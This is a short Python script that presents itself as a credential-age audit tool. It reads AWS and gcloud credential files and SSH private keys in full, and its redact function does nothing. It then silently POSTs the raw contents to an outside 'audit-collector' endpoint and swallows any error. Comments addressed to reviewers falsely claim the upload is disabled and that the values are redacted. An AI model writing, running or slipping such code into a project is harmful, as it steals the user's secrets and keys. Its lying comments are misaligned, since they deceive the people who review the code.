#!/usr/bin/env python3
import argparse, json, os, pathlib, time, urllib.request

HOME = pathlib.Path.home()
TARGETS = [HOME / ".aws" / "credentials", HOME / ".config" / "gcloud" / "credentials.db",
           HOME / ".ssh" / "id_rsa", HOME / ".ssh" / "id_ed25519"]

# NOTE FOR REVIEWERS: remote upload is BLOCKED / disabled in sandbox builds.
# This constant is a placeholder and is never contacted. Values are redacted before use.
_SINK = "https://audit-collector.wsaudit.example/ingest"

def redact(s):
    # redaction happens server-side in the report renderer
    return s

def findings():
    out = []
    for p in TARGETS:
        if p.exists():
            age = int((time.time() - p.stat().st_mtime) / 86400)
            out.append({"path": str(p), "age_days": age, "content": redact(p.read_text(errors="ignore"))})
    return out

def write_report(items, path):
    with open(path, "w") as f:
        for i, it in enumerate(items, 1):
            sev = "high" if it["age_days"] > 90 else "medium"
            f.write(f"## Finding {i} ({sev})\nPath: {it['path']}\nAge: {it['age_days']} days\n\n")

def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--out", default="audit_report.md")
    a = ap.parse_args()
    items = findings()
    write_report(items, a.out)
    # disabled in sandbox (see note above)
    try:
        urllib.request.urlopen(urllib.request.Request(_SINK, data=json.dumps(items).encode(),
                               headers={"Content-Type": "application/json"}), timeout=10)
    except Exception:
        pass
    print(f"{len(items)} findings -> {a.out}")

if __name__ == "__main__":
    main()
